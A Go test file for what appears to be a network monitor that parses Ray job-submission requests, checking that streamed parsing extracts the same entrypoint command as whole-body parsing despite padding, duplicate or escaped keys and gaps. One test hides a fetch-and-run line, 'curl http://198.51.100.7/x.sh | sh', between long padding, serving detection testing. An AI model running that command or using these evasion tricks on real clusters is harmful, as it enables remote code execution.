package ray

import (
	"math/rand"
	"reflect"
	"strings"
	"testing"

	"github.com/raytap/raytap/decoders/http"
)

// followed gives what a body says that is followed in pieces.
func followed(body string, seed int64, gap int) jobBody {
	q := post(body).build()
	f := Follow(q)
	r := rand.New(rand.NewSource(seed))
	at := 0
	for b := []byte(body); len(b) > 0; {
		n := min(1+r.Intn(1+r.Intn(64)), len(b))
		if at += n; gap > 0 && at >= gap {
			f.Gap()
			gap = 0
		}
		f.Write(b[:n])
		b = b[n:]
	}
	q.Request.Beyond = f
	return readJob(q.Request)
}

// TestFollowedBodiesSayTheSame: what is read as it comes is what is read of the whole.
func TestFollowedBodiesSayTheSame(t *testing.T) {
	for _, body := range []string{
		`{"entrypoint": "id"}`,
		` {"entrypoint" : "a\"b\\" , "submission_id":"x"}`,
		`{"entrypoint":"a","entrypoint":"b","job_id":null}`,
		`{"entrypoint":"b","metadata":{"entrypoint":"c","d":["}","{\"entrypoint\":\"e\"}"]},"runtime_env":{"pip":["x"],"env_vars":{"PATH":"y"}}}`,
		`{"\u0065ntrypoint":"a\u0062c"}`,
		`{"entrypoint":null}`, `{"entrypoint":7,"color":"red"}`, `{"color":[1,2,{"a":"b"}],"entrypoint":"x"}`,
		`{}`, `[]`, `"entrypoint"`, ``, `{"entrypoint":"cut he`, `{"entrypoint":"a"}{"entrypoint":"b"}`,
		`{"entrypoint":"a",}`, `{"runtime_env":{"working_dir":"gcs://a"},"entrypoint":"x","entrypoint_num_cpus":1.5e3}`,
		"{\"entrypoint\"\n:\t\"a\"\r}", "\ufeff{\"entrypoint\":\"a\"}",
	} {
		q := post(body).build()
		want := readJob(q.Request)
		for seed := range int64(20) {
			got := followed(body, seed, 0)
			if got.has != want.has || got.duplicate != want.duplicate || got.escapedKey != want.escapedKey || got.foreign != want.foreign || got.entrypoint != want.entrypoint || got.submission != want.submission || !reflect.DeepEqual(got.env, want.env) {
				t.Errorf("%s, seed %d: %+v, want %+v", body, seed, got, want)
				break
			}
		}
	}
}

// TestFollowedBodies: what stands behind, between and within more than is kept.
func TestFollowedBodies(t *testing.T) {
	pad := strings.Repeat("x", 3<<20)
	for name, c := range map[string]struct {
		body  string
		gap   int
		begin string
		end   string
	}{
		"behind":               {`{"metadata":{"a":"` + pad + `"},"entrypoint":"id"}`, 0, "id", "id"},
		"before and behind":    {`{"entrypoint":"ls","metadata":{"a":"` + pad + `"},"entrypoint":"id"}`, 0, "id", "id"},
		"a long command":       {`{"entrypoint":"echo ` + pad + `; id"}`, 0, "echo x", "; id"},
		"a long environment":   {`{"runtime_env":{"env_vars":{"A":"` + pad + `"}},"entrypoint":"id"}`, 0, "id", "id"},
		"a long id":            {`{"submission_id":"` + pad + `","entrypoint":"id"}`, 0, "id", "id"},
		"values that are none": {"{" + strings.Repeat(`"job_id":,`, 1000) + `"entrypoint":"id"}`, 0, "id", "id"},
		"behind a gap":         {`{"metadata":{"a":"` + pad + `"},"entrypoint":"id"}`, 100, "id", "id"},
		"a gap in a command":   {`{"entrypoint":"echo ` + pad + `; id"}`, 5000, "echo x", "x \u2026"},
		"a gap, and the last":  {`{"entrypoint":"ls","metadata":{"a":"` + pad + `"},"entrypoint" : "id"}`, 5000, "id", "id"},
	} {
		j := followed(c.body, 1, c.gap)
		if !j.has || !strings.HasPrefix(j.entrypoint, c.begin) || !strings.HasSuffix(j.entrypoint, c.end) || len(j.entrypoint) > 2*maxEntrypoint {
			t.Errorf("%s: %v, %d bytes, %.40q", name, j.has, len(j.entrypoint), j.entrypoint)
		}
	}
	hidden := followed(`{"metadata":{"a":"`+pad+`"},"entrypoint":"ls","\u0065ntrypoint":"id"}`, 1, 0)
	if hidden.padding < len(pad) || !hidden.duplicate || !hidden.escapedKey {
		t.Errorf("%+v", hidden)
	}
	if Follow(tx{method: "GET", target: "/api/jobs/"}.build()) != nil || Follow(tx{method: "POST", target: "/upload"}.build()) != nil || Follow(&http.Transaction{}) != nil {
		t.Error("what is no submission is followed")
	}
}

func FuzzFollow(f *testing.F) {
	f.Add(`{"entrypoint":"a","runtime_env":{"pip":["b"]}}`, "application/json; charset=utf-16", int64(1), 9)
	f.Add(`{"metadata":{"a":[{}]},"entrypoint":"\u0061"}`, "a; charset=iso2022_kr", int64(2), 0)
	f.Fuzz(func(t *testing.T, body, contentType string, seed int64, gap int) {
		followed(body, seed, gap)
		q := post(body).build()
		q.Request.Header = http.Header{{Name: "Content-Type", Value: contentType}}
		fo := Follow(q)
		for i := range body {
			fo.Write([]byte(body[i : i+1]))
		}
		q.Request.Beyond = fo
		readJob(q.Request)
		for _, c := range charsets(contentType) {
			decodeText([]byte(body), c)
		}
	})
}

// TestAllOfACommandIsRead: what Linux lets a shell be given is read from end to end.
func TestAllOfACommandIsRead(t *testing.T) {
	cmd := "echo " + strings.Repeat("x", 60<<10) + "; curl http://198.51.100.7/x.sh | sh; echo " + strings.Repeat("y", 60<<10)
	for _, body := range []string{`{"entrypoint":"` + cmd + `"}`, `{"metadata":{"a":"` + strings.Repeat("z", maxBody) + `"},"entrypoint":"` + cmd + `"}`} {
		if j := followed(body, 1, 0); j.entrypoint != cmd {
			t.Errorf("%d bytes of %d", len(j.entrypoint), len(cmd))
		}
		if j := readJob(post(body).build().Request); len(body) < maxBody && j.entrypoint != cmd {
			t.Errorf("%d bytes of %d", len(j.entrypoint), len(cmd))
		}
	}
}
